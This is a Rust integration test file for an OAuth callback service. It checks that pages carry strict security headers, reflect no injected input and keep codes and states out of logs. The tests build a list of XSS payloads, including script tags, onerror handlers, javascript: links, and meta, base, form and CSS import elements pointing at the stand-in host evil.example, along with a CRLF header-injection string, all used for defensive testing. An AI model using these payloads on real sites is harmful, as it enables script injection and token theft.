//! Tests of the pages that browsers show: nothing is reflected, framed or leaked (security.md, row 41).

use url::Url;

use super::{Form, HOUR, admin, begin, location, parameter, url_of, visit};
use crate::support::authorization_servers::{Browser, MockServer, OidcServer, PROVIDER};
use crate::support::{Reply, World};

/// Checks the headers that every page has, whatever its content.
fn assert_careful(page: &Reply) {
    let policy = page.header("content-security-policy");
    assert!(policy.contains("default-src 'none'") && policy.contains("frame-ancestors 'none'"), "{policy}");
    assert!(!policy.contains("unsafe"), "{policy}");
    assert_eq!(page.header("referrer-policy"), "no-referrer");
    assert_eq!(page.header("cache-control"), "no-store");
    assert_eq!(page.header("x-content-type-options"), "nosniff");
    assert_eq!(page.header("x-frame-options"), "DENY");
    assert!(page.header("content-type").starts_with("text/html"));
    assert!(!page.text.contains("<script") && !page.text.contains("http-equiv"), "{}", page.text);
}

/// Payloads that have worked against other pages: every element and handler in every kind of quotes, and
/// polyglots.
fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for open in ["", "\"", "'", "\">", "'>", "-->", "</title>", "</textarea>", "]]>", "`"] {
        for body in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<a href=javascript:alert(1)>x</a>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<base href=//evil.example>",
            "<form action=//evil.example><input name=token>",
            " onfocus=alert(1) autofocus x=",
            "<style>@import'//evil.example'</style>",
        ] {
            all.push(format!("{open}{body}"));
        }
    }
    all.extend(
        ["\u{202e}<b>", "%3Cscript%3E", "&lt;script&gt;<u>", "{{7*7}}<i>", "\r\nSet-Cookie: a=b"]
            .map(Into::into),
    );
    all
}

#[tokio::test(flavor = "multi_thread")]
async fn no_payload_is_reflected_by_the_callback() {
    let provider = MockServer::start(HOUR);
    let world = provider.set(World::embedded());
    let server = world.setup.start().await;
    let base = format!("http://{}/integrations/{PROVIDER}/callback", server.address());
    let payloads = payloads();
    assert!(payloads.len() >= 100, "only {} payloads", payloads.len());
    for payload in &payloads {
        for name in ["state", "code", "error", "error_description", "iss", "redirect_to", "x"] {
            let mut url = Url::parse(&base).unwrap();
            url.query_pairs_mut().append_pair(name, payload);
            if name != "state" {
                url.query_pairs_mut().append_pair("state", &"A".repeat(43));
            }
            let page = visit(&url).await;
            assert_eq!(page.status, 400);
            assert_careful(&page);
            assert!(!page.everything().contains(payload.as_str()), "{name} {payload}");
            assert!(
                !page.text.contains("alert(1)") && !page.text.contains("evil.example"),
                "{name} {payload}"
            );
        }
        let path: String = url::form_urlencoded::byte_serialize(payload.as_bytes()).collect();
        let url = Url::parse(&format!(
            "http://{}/integrations/{}/callback?state=x",
            server.address(),
            path.replace('+', "%20")
        ));
        let page = visit(&url.unwrap()).await;
        assert!([400, 404].contains(&page.status), "{payload}: {}", page.status);
        assert_eq!(page.header("x-content-type-options"), "nosniff");
        assert!(!page.everything().contains(payload.as_str()), "{payload}");
        assert!(!page.text.contains("alert(1)") && !page.text.contains("evil.example"), "{payload}");
    }
}

/// The state is known here, so that every parameter is read and there is a URL to return to.
#[tokio::test(flavor = "multi_thread")]
async fn no_payload_is_reflected_by_a_flow_that_is_under_way() {
    let provider = OidcServer::start(HOUR);
    let world = provider
        .set(World::embedded())
        .with("STRONGROOM_OAUTH__REDIRECT_ALLOWLIST", "https://app.example.com");
    let server = world.setup.start().await;
    let admin = admin(&server);
    let base = format!("http://{}/integrations/{PROVIDER}/callback", server.address());
    for payload in payloads() {
        for (name, place) in [
            ("error", ""),
            ("error_description", ""),
            ("error_uri", ""),
            ("iss", ""),
            ("error", "redirect_to=https://app.example.com/x"),
            ("iss", "redirect_to=https://app.example.com/x"),
        ] {
            let begun = begin(&admin, place).await;
            let mut url = Url::parse(&base).unwrap();
            url.query_pairs_mut()
                .append_pair(name, &payload)
                .append_pair("state", begun["state"].as_str().unwrap());
            if name != "iss" {
                url.query_pairs_mut().append_pair("iss", provider.issuer());
            }
            if !["error", "iss"].contains(&name) {
                url.query_pairs_mut().append_pair("error", "access_denied");
            }
            let answer = visit(&url).await;
            if name == "error" && !place.is_empty() {
                let sent = location(&answer);
                assert_eq!(sent.as_str(), "https://app.example.com/x?status=failed&error=provider_refused");
            } else {
                assert_eq!(answer.status, 400, "{name} {payload}");
                assert_careful(&answer);
            }
            assert!(!answer.everything().contains(payload.as_str()), "{name} {payload}");
            let marks = ["alert(1)", "evil.example", "alert%281%29"];
            assert!(!marks.iter().any(|mark| answer.everything().contains(mark)), "{name} {payload}");
        }
    }
    assert_eq!(provider.counts().await.token_requests("authorization_code"), 0);
}

/// Checks RFC 9700, section 4.2.
#[tokio::test(flavor = "multi_thread")]
async fn no_code_and_no_state_is_in_the_log() {
    let provider = OidcServer::start(HOUR);
    let world = provider.set(World::embedded());
    let server = world.setup.start().await;
    let admin = admin(&server);
    let mut secrets = Vec::new();
    for change in ["", "&iss=https%3A%2F%2Fevil.example", "&code=twice", "&state=twice"] {
        let begun = begin(&admin, "").await;
        let back = Browser::default().follow(url_of(&begun)).await;
        secrets.extend([parameter(&back, "code").unwrap(), begun["state"].as_str().unwrap().to_owned()]);
        let page = visit(&Url::parse(&format!("{back}{change}")).unwrap()).await;
        if change.is_empty() {
            secrets.extend([Form::of(&page).token]);
        }
        let elsewhere = back.as_str().replace("/callback", "/call%0aback");
        visit(&Url::parse(&elsewhere).unwrap()).await;
    }
    let logs = server.stop();
    assert!(logs.contains("/callback"), "the requests are in the log");
    for secret in secrets {
        assert!(!logs.contains(&secret), "a code, a state or a one-time token is in the log");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_provider_names_an_account_is_shown_as_text() {
    let provider = MockServer::start(HOUR);
    let world = provider
        .set(World::embedded())
        .with("STRONGROOM_OAUTH__REDIRECT_ALLOWLIST", "https://app.example.com");
    let server = world.setup.start().await;
    let admin = admin(&server);
    for account in ["<img src=x onerror=alert(1)>@example.com", "\"><script>alert(1)</script>@example.com"] {
        let begun = begin(&admin, "redirect_to=https://app.example.com/x").await;
        let back = Browser::default().follow_as(url_of(&begun), account).await;
        let page = visit(&back).await;
        assert_eq!(page.status, 200);
        assert_careful(&page);
        assert!(!page.text.contains("<img") && !page.text.contains("<script"), "{}", page.text);
        assert!(
            page.header("content-security-policy").contains("form-action 'self' https://app.example.com")
        );
        assert!(
            page.text.contains("name=\"referrer\" content=\"origin\""),
            "the form must be sent with its origin"
        );
    }
}
